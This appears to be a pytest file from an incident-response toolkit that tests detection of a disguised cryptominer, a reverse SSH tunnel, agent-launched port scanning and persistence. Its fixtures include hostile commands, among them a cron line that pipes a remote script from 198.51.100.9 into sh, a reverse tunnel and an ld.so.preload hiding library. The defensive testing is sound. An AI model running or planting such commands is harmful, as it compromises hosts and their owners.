@@ -1,0 +1,228 @@
+"""Heuristics over fixture records: expected findings, verdicts and lineage; corrupt records."""
+
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from minersample import synthetic_monero_wallet
+
+from irkit.analysis.heuristics import analyse
+from irkit.playbook import AgentSpec, AnalysisSettings
+
+WALLET = synthetic_monero_wallet()
+
+
+def process(pid: int, name: str, **extra: Any) -> dict[str, Any]:
+    return {
+        "type": "process",
+        "pid": pid,
+        "ppid": 1,
+        "name": name,
+        "exe": f"/usr/bin/{name}",
+        "cmdline": [name],
+        "user": "root",
+        "flags": [],
+        "cpu_percent": 1.0,
+        **extra,
+    }
+
+
+HOST = [
+    process(1, "systemd", ppid=0),
+    process(
+        4242,
+        "kworker/0:2",
+        exe="/tmp/.x/kworkerds (deleted)",
+        cpu_percent=99.0,
+        cmdline=["/tmp/.x/kworkerds", "-o", "stratum+tcp://127.0.0.1:3333", "-u", WALLET],
+        flags=[
+            "exe-deleted",
+            "exe-in-hidden-dir",
+            "exe-in-writable-dir",
+            "kernel-thread-imitation",
+        ],
+        exe_sha256="ab" * 32,
+        exe_member="files/proc/4242/exe",
+    ),
+    process(300, "sshd"),
+    process(301, "ssh", ppid=300, cmdline=["ssh", "-fNR", "2222:localhost:22", "u@203.0.113.5"]),
+    process(500, "python3", user="agent", cgroup="/agent.slice/run-1.scope"),
+    process(501, "bash", ppid=500, user="agent"),
+    process(502, "scanner", ppid=501, user="agent"),
+    process(600, "trainer", ppid=1),
+    {
+        "type": "socket",
+        "proto": "tcp",
+        "pid": 4242,
+        "state": "ESTABLISHED",
+        "local_address": "127.0.0.1",
+        "local_port": 40000,
+        "remote_address": "127.0.0.1",
+        "remote_port": 3333,
+        "flags": ["pool-port"],
+    },
+    *[
+        {
+            "type": "socket",
+            "proto": "tcp",
+            "pid": 502,
+            "state": "SYN_SENT",
+            "local_address": "10.0.0.2",
+            "local_port": 50000 + i,
+            "remote_address": f"10.0.1.{i}",
+            "remote_port": 22,
+            "flags": [],
+        }
+        for i in range(25)
+    ],
+    {"type": "gpu_process", "pid": 600, "gpu_index": 0, "used_memory": 8 << 30},
+    {
+        "type": "persistence",
+        "mechanism": "cron",
+        "source": "/etc/crontab",
+        "line": 3,
+        "command": "/tmp/.x/kworkerds >/dev/null 2>&1",
+        "member": "files/etc/crontab",
+    },
+    {
+        "type": "persistence",
+        "mechanism": "cron",
+        "source": "/var/spool/cron/crontabs/www",
+        "line": 1,
+        "command": "curl -fsSL http://198.51.100.9/x.sh | sh",
+    },
+    {
+        "type": "persistence",
+        "mechanism": "ld.so.preload",
+        "source": "/etc/ld.so.preload",
+        "line": 1,
+        "command": "/usr/local/lib/libhide.so",
+    },
+    {
+        "type": "persistence",
+        "mechanism": "cron",
+        "source": "/etc/cron.d/logrotate",
+        "line": 1,
+        "command": "test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf",
+    },
+]
+
+SETTINGS = AnalysisSettings(
+    agent=AgentSpec(process_names=["python3"], users=[], cgroups=[]), gpu_allow=["python3"]
+)
+
+
+@pytest.fixture(scope="module")
+def result():
+    return analyse(HOST, SETTINGS)
+
+
+def by_pid(result, pid: int):
+    return next(f for f in result.findings if f.pid == pid)
+
+
+def test_the_miner_is_a_likely_miner_with_its_reasons(result) -> None:
+    miner = by_pid(result, 4242)
+    assert miner.title == "likely miner: pid 4242 (kworker/0:2)"
+    assert miner.severity == "critical"
+    text = " | ".join(miner.reasons)
+    for expected in (
+        "deleted",
+        "hidden directory",
+        "kernel thread",
+        "127.0.0.1:3333",
+        "stratum+tcp://127.0.0.1:3333",
+        WALLET,
+        "CPU use of 99%",
+    ):
+        assert expected in text
+    assert {"T1496", "T1036.004", "T1070.004"} <= set(miner.mitre)
+    assert "files/proc/4242/exe" in miner.evidence
+
+
+def test_reverse_ssh_tunnel(result) -> None:
+    tunnel = by_pid(result, 301)
+    assert tunnel.title.startswith("tunnel")
+    assert "T1572" in tunnel.mitre
+
+
+def test_probing_traced_to_the_agent(result) -> None:
+    probe = by_pid(result, 502)
+    assert "25 connection attempts" in " ".join(probe.reasons)
+    assert "it descends from the agent's runtime (pid 500)" in probe.reasons
+    verdict = next(v for v in result.verdicts if v.pid == 502)
+    assert verdict.agent_ancestor == 500
+    assert verdict.lineage[:3] == ["502 scanner (agent)", "501 bash (agent)", "500 python3 (agent)"]
+
+
+def test_gpu_use_outside_the_allow_list(result) -> None:
+    assert "8192 MiB of GPU memory" in " ".join(by_pid(result, 600).reasons)
+
+
+def test_persistence_findings(result) -> None:
+    titles = {f.title: f for f in result.findings if "persistence" in f.title}
+    crontab = titles["cron persistence: /etc/crontab:3"]
+    assert any("pid 4242" in r for r in crontab.reasons)
+    assert "T1053.003" in crontab.mitre
+    assert "downloads code" in " ".join(
+        titles["cron persistence: /var/spool/cron/crontabs/www:1"].reasons
+    )
+    assert "T1574.006" in titles["ld.so.preload persistence: /etc/ld.so.preload:1"].mitre
+    assert not any("logrotate" in t for t in titles)
+
+
+def test_iocs_and_verdict(result) -> None:
+    iocs = {(i.ioc_type, i.value) for i in result.iocs}
+    assert ("pool-host", "127.0.0.1:3333") in iocs
+    assert ("wallet", WALLET) in iocs
+    assert ("sha256", "ab" * 32) in iocs
+    assert ("path", "/etc/crontab") in iocs
+    verdict = result.verdict("medium")
+    assert verdict.verdict == "COMPROMISED: likely cryptominer"
+    assert "pid 4242" in verdict.reason
+
+
+def test_a_quiet_host_has_no_findings() -> None:
+    quiet = analyse([process(1, "systemd", ppid=0), process(2, "sshd")], AnalysisSettings())
+    assert quiet.findings == [] and quiet.iocs == []
+    assert quiet.verdict("medium").verdict == "CLEAN"
+
+
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
+    lambda inner: (
+        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
+    ),
+    max_leaves=6,
+)
+fields = (
+    "pid",
+    "ppid",
+    "name",
+    "exe",
+    "cmdline",
+    "flags",
+    "cpu_percent",
+    "state",
+    "remote_address",
+    "remote_port",
+    "command",
+    "mechanism",
+    "source",
+    "used_memory",
+)
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.lists(
+        st.fixed_dictionaries(
+            {"type": st.sampled_from(["process", "socket", "persistence", "gpu_process", "x"])},
+            optional={f: json_values for f in fields},
+        ),
+        max_size=6,
+    )
+)
+def test_corrupt_records_never_crash_the_analysis(records: list[dict[str, Any]]) -> None:
+    analyse(records, AnalysisSettings())
